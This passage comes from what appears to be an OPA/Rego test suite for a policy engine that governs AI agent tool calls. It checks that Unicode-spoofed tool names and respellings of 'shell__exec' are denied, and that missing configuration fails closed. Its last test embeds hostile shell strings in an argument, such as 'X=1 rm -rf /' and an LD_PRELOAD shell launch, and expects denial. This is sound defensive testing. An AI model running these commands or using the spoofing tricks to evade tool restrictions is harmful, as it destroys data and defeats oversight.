	"notes__echo ", "\tnotes__echo", "notes__\u200decho", "notes__echo\u202e", "notes__e\u0000cho",
	"notes__echo\u034f", # combining grapheme joiner (Mn)
	"notes__echo\ufe0f", # variation selector 16 (Mn)
	"notes__echo\udb40\udd00", # variation selector 17, U+E0100 (Mn)
	"notes__echo\udb40\udc41", # tag latin capital a, U+E0041 (Cf)
	"notes__ec\u0301ho", # combining acute accent
	"notes__echo\u115f", "notes__echo\u1160", "notes__echo\u3164", "notes__echo\uffa0", # Hangul fillers (Lo)
	"notes__echo\u2800", # Braille blank
	"notes__\uff45\uff43\uff48\uff4f", # full-width echo
	"notes__\u0435cho", # Cyrillic e
	"notes__\u00e9cho", "notes__echo\ue000", "notes__echo\u00a0", "notes__echo\u3000x",
]

test_malformed_names_denied_and_hidden if {
	every n in malformed_names {
		d := decide(call({"name": n}))
		d.outcome == "deny"
		has_reason(d, sprintf("Tool name '%s' starts or ends with whitespace or holds characters other than printable ASCII", [n]))
		tool_call.hidden with input as call({"name": n})
	}
	every n in ["notes__my echo", "notes__echo.v2", "notes__a/b", "notes__x-y_z", "notes__~!@#%^*()+={}[]|:;'<>,?"] {
		decide(call({"name": n})).outcome == "allow"
		not tool_call.hidden with input as call({"name": n})
	}
}

# Reported by review: allowed where shell__exec is prohibited. Invisible and
# combining characters are also removed from the name the lists see.
test_reviewed_tool_name_respellings_denied if {
	every n in ["shell__exec\u034f", "shell__exec\ufe0f", "shell__\uff45\uff58\uff45\uff43"] {
		d := decide(call({"name": n}))
		d.allow == false
		d.outcome == "deny"
		tool_call.hidden with input as call({"name": n})
	}
	every n in ["shell__exec\u034f", "shell__exec\ufe0f", "shell__e\u3164xec", "shell__exec\udb40\udd00", "shell__exec\udb40\udc41"] {
		decide(call({"name": n})).evaluation_details.prohibited == true
	}
	decide(call({"name": "db__delete_record\ufe0f"})).evaluation_details.needs_approval == true
}

# The exemption lists match the name exactly.
test_exemptions_match_exactly if {
	decide(args({"command": "ls"})).outcome == "allow" with data.acgs.config.tool_call.shell_tools_allowed as ["notes__echo"]
	d := decide(call({"name": "Notes__Echo", "arguments": {"command": "ls"}})) with data.acgs.config.tool_call.shell_tools_allowed as ["notes__echo"]
	d.outcome == "deny"
}

# A name, upstream, agent id or session of whitespace only is missing.
test_blank_fields_are_missing if {
	d := decide(call({"name": " \t", "upstream": " ", "agent": {"id": "\n", "session": "  "}}))
	d.reasons == ["Agent identity missing", "Session missing", "Tool name missing", "Upstream missing"]
	not tool_call.hidden with input as call({"name": " "})
}

# A count no counter makes fails closed; a count that is no number counts
# as 0 (test_rate_limit_wrong_type_counts_as_missing).
test_invalid_call_counts_denied if {
	every n in [-1, -1e9, 119.5, 0.1] {
		d := decide(call({"context": {"calls_last_minute": n}}))
		d.outcome == "deny"
		has_reason(d, sprintf("Call count invalid (%v): calls_last_minute must be a whole number, 0 or more", [n]))
	}
	decide(call({"context": {"calls_last_minute": 0}})).outcome == "allow"
	decide(call({"context": {"calls_last_minute": 1.0}})).outcome == "allow"

	# a limit of 0 (an agent allowed no calls) is not opened by a negative count
	decide(call({"context": {"calls_last_minute": -1}})).outcome == "deny" with data.acgs.config.tool_call.rate_limit.per_agent as {"agent-1": 0}
}

# ---------------------------------------------------------------------------
# Configuration left out fails closed
# ---------------------------------------------------------------------------

# No rate limit configured: a configuration error, every call denied (the
# limit read without it would be 0: every call over it).
test_rate_limit_missing_from_config_denies if {
	cfg := object.remove(data.acgs.config.tool_call, ["rate_limit"])
	d := decide(base) with data.acgs.config.tool_call as cfg
	d.outcome == "deny"
	d.reasons == ["Constitution configuration error: data.acgs.config.tool_call lacks a value of the type this evaluation needs (rate_limit.default_per_minute: a number, rate_limit.per_agent: an object)"]
	tool_call.rate_limit == 0 with input as base with data.acgs.config.tool_call as cfg
}

# No file roots configured: no path is under a root.
test_file_roots_missing_from_config_denies_every_path if {
	cfg := object.remove(data.acgs.config.tool_call, ["file_roots"])
	d := decide(args({"path": "/workspace/a"})) with data.acgs.config.tool_call as cfg
	d.reasons == ["Argument '/path' is outside the allowed file roots ('/workspace/a')"]
	decide(base).outcome == "allow" with data.acgs.config.tool_call as cfg
}

# Variable assignments before a command, or after env, do not hide it.
test_shell_assignments_before_a_command if {
	every t in ["ls; env X=1 bash", "ls; X=1 rm -rf /", "a && LD_PRELOAD=/tmp/x.so /bin/sh", "x | env -i PATH=/bin sh", "x | A=1 B= python3"] {
		d := decide(args({"text": t}))
		d.outcome == "deny"
		some r in d.reasons
		contains(r, "contains shell syntax")
	}
	decide(args({"text": "a; x=1 is the answer"})).outcome == "allow"
}
